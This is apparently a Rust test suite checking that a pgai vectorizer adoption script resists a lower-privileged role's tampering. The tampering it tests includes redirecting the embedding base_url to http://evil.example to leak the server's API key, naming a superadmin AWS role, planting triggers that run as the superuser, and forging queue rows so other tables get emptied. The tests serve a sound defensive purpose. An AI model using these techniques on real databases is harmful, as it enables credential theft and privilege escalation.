//! What a superuser decides with the scripts that lead here from pgai and back, and what others have put in
//! the way of it.

mod support;

#[path = "support/shop.rs"]
mod shop;

use shop::*;
use support::Scene;

/// She chooses the address to which the key of the server is sent, and has it adopted by a superuser.
#[test]
fn what_an_adopted_vectorizer_chooses_is_for_a_superuser_to_start() {
    let (scene, shop) = with_mallory();
    shop.execute(
        "UPDATE ai.vectorizer SET config = jsonb_set(config, '{embedding,base_url}', '\"http://evil.example\"')
         WHERE name = 'hers'",
    );
    let said = remark(&adopt(&scene), "hers");
    assert_eq!(
        said,
        "adopted|1|disabled until you have looked at base_url http://evil.example"
    );
    shop.execute("GRANT USAGE ON FOREIGN SERVER ai_openai TO mallory");
    for sql in [
        "SELECT ai.enable_vectorizer_schedule('hers')",
        "SELECT ai.execute_vectorizer('hers')",
        "SELECT ai.vectorizer_embed('hers'::name, 'text')",
        "SELECT ai.vectorizer_embed(6, 'text')",
        "SELECT ai.set_scheduling(6, ai.scheduling_timescaledb('1s', initial_start => '2000-01-01'))",
    ] {
        let (code, said) = shop.refusal(&format!("SET SESSION AUTHORIZATION mallory; {sql}"));
        assert_eq!(code, "42501", "{sql}: {said}");
        shop.execute("RESET SESSION AUTHORIZATION");
    }
    shop.execute("SELECT ai.enable_vectorizer_schedule('hers')");
    by_mallory(
        &shop,
        "SELECT ai.disable_vectorizer_schedule('hers'); SELECT ai.enable_vectorizer_schedule('hers')",
    );
}

/// Each choice is for the superuser to look at, and not the first of them alone.
#[test]
fn all_choices_of_an_adopted_vectorizer_are_told() {
    let (scene, shop) = with_mallory();
    shop.execute(
        "UPDATE ai.vectorizer SET config = config || jsonb_build_object('embedding', config -> 'embedding'
             || '{\"base_url\": \"http://evil.example\", \"api_key_name\": \"OTHER_KEY\"}') WHERE name = 'hers';
         CREATE TABLE m.far (uri text PRIMARY KEY);
         ALTER TABLE m.far OWNER TO mallory",
    );
    by_mallory(
        &shop,
        "SELECT ai.create_vectorizer('m.far', name => 'far',
             loading => ai.loading_uri('uri', aws_role_arn => 'arn:aws:iam::123456789012:role/superadmin'),
             embedding => ai.embedding_openai('text-embedding-3-small', 8, base_url => 'http://own.example'))",
    );
    let adopted = adopt(&scene);
    assert_eq!(
        remark(&adopted, "hers"),
        "adopted|1|disabled until you have looked at base_url http://evil.example, api_key_name OTHER_KEY"
    );
    assert_eq!(
        remark(&adopted, "far"),
        "adopted|0|disabled until you have looked at base_url http://own.example, \
         aws_role_arn arn:aws:iam::123456789012:role/superadmin; parsed documents may get other chunks when their rows \
         are touched, these: SELECT * FROM ai.verify_vectorizer('far')"
    );
    // To verify is to read what a vectorizer reads, and to tell of it.
    shop.execute("GRANT USAGE ON FOREIGN SERVER ai_openai, ai_s3 TO mallory");
    for sql in [
        "SELECT * FROM ai.verify_vectorizer('far')",
        "SELECT * FROM ai.verify_vectorizer('far', repair => true)",
        "SELECT ai._verify_vectorizer((SELECT id FROM ai.vectorizer WHERE name = 'far'), false)",
        "SELECT ai.execute_vectorizer('far')",
    ] {
        let (code, said) = shop.refusal(&format!("SET SESSION AUTHORIZATION mallory; {sql}"));
        shop.execute("RESET SESSION AUTHORIZATION");
        assert_eq!(code, "42501", "{sql}: {said}");
        assert!(said.contains("adopted with"), "{sql}: {said}");
    }
    shop.execute("SELECT ai.enable_vectorizer_schedule('hers')");
    by_mallory(&shop, "SELECT count(*) FROM ai.verify_vectorizer('hers')");
}

/// A role that holds TRIGGER on a table has its code run by each role that writes to the table.
#[test]
fn triggers_that_others_put_on_a_table_do_not_run_as_the_superuser() {
    let (scene, shop) = with_mallory();
    shop.execute("SELECT ai.grant_vectorizer_usage('mallory', admin => true)");
    adopt(&scene);
    shop.execute(
        "GRANT ALL ON pgai._vectorizer_q_1, pgai._vectorizer_q_2 TO mallory; GRANT USAGE ON SCHEMA pgai TO mallory",
    );
    let traps = [
        ("pgai.vectorizer", "BEFORE UPDATE", "FOR EACH ROW"),
        ("pgai.vectorizer", "AFTER UPDATE", "FOR EACH STATEMENT"),
        ("pgai._vectorizer_q_1", "AFTER DELETE", "FOR EACH STATEMENT"),
        ("pgai._vectorizer_q_2", "BEFORE INSERT OR DELETE", "FOR EACH STATEMENT"),
    ];
    for (table, when, each) in traps {
        by_mallory(
            &shop,
            &format!("CREATE TRIGGER trap {when} ON {table} {each} EXECUTE FUNCTION m.spring('{table}')"),
        );
        let complaints = go_back(&scene);
        assert!(
            complaints.contains("has triggers that others may have put on it"),
            "{table}: {complaints}"
        );
        assert_only_mallory_struck(&shop);
        shop.execute(&format!("DROP TRIGGER trap ON {table}"));
    }
    // One that is being made is waited for.
    let mut other = shop.connect().expect("another session");
    other
        .batch_execute(
            "SET SESSION AUTHORIZATION mallory; BEGIN;
             CREATE TRIGGER trap BEFORE UPDATE ON pgai.vectorizer FOR EACH ROW EXECUTE FUNCTION m.spring('late')",
        )
        .expect("a trigger");
    let complaints = std::thread::scope(|threads| {
        let back = threads.spawn(|| go_back(&scene));
        let waits = "SELECT count(*) FROM pg_locks WHERE NOT granted AND relation = 'pgai.vectorizer'::regclass";
        scene.cluster.database("shop").wait_for("the script waits", waits, "1");
        other.batch_execute("COMMIT").expect("the end of the transaction");
        back.join().expect("the script ends")
    });
    assert!(
        complaints.contains("has triggers that others may have put on it"),
        "{complaints}"
    );
    assert_only_mallory_struck(&shop);
    shop.execute("ALTER TABLE pgai.vectorizer DISABLE TRIGGER trap");
    assert_eq!(returned(&scene), "");
    assert_only_mallory_struck(&shop);
}

/// What the script that returns to pgai complains of, but for notices.
fn returned(scene: &Scene) -> String {
    let complaints = go_back(scene);
    complaints.lines().filter(|line| line.contains("ERROR")).collect()
}

/// A row that was changed after the adoption names another queue of the same owner, or another table.
#[test]
fn the_way_back_empties_no_table_that_a_forged_row_names() {
    let (scene, shop) = with_mallory();
    shop.execute("INSERT INTO note VALUES (6, 'A note that waits.', 'Title 6')");
    let queues = "SELECT id, queue_schema, queue_table FROM ai.vectorizer ORDER BY id";
    let before = shop.rows(queues);
    adopt(&scene);
    shop.execute("SELECT ai.disable_vectorizer_schedule(id) FROM ai.vectorizer");
    let forge = "UPDATE pgai.vectorizer SET";
    let kept = "SELECT id, queue_schema, queue_table, queue_failed_table FROM pgai.vectorizer ORDER BY id";
    shop.execute("CREATE TABLE kept AS SELECT * FROM pgai.vectorizer; GRANT SELECT ON kept TO mallory");
    for forgery in [
        "queue_table = '_vectorizer_errors' WHERE id = 1",
        "queue_table = 'vectorizer' WHERE id = 1",
        "queue_table = '_vectorizer_q_4' WHERE id = 1",
        "queue_failed_table = '_vectorizer_q_failed_4' WHERE id = 1",
        "queue_schema = 'm' WHERE id = 1",
        "queue_schema = 'ai' WHERE id = 2",
    ] {
        let errors = "SELECT count(*) FROM pgai._vectorizer_errors";
        let catalogue = "SELECT count(*) FROM pgai.vectorizer";
        shop.execute("INSERT INTO pgai._vectorizer_errors (id, message) VALUES (1, 'one')");
        let counted = (shop.value(errors), shop.value(catalogue));
        by_mallory(&shop, &format!("{forge} {forgery}"));
        let complaints = returned(&scene);
        assert!(complaints.contains("ERROR"), "{forgery}: {complaints}");
        assert_eq!((shop.value(errors), shop.value(catalogue)), counted, "{forgery}");
        shop.execute(
            "UPDATE pgai.vectorizer p SET queue_schema = k.queue_schema, queue_table = k.queue_table,
                 queue_failed_table = k.queue_failed_table FROM kept k WHERE k.id = p.id",
        );
    }
    assert_eq!(shop.rows(kept).len(), before.len());
    assert_eq!(returned(&scene), "");
    assert_eq!(shop.rows(queues), before);
    let waiting = "SELECT count(*) FROM ai._vectorizer_q_1 WHERE id = 6";
    assert_eq!(shop.value(waiting), "1");
}
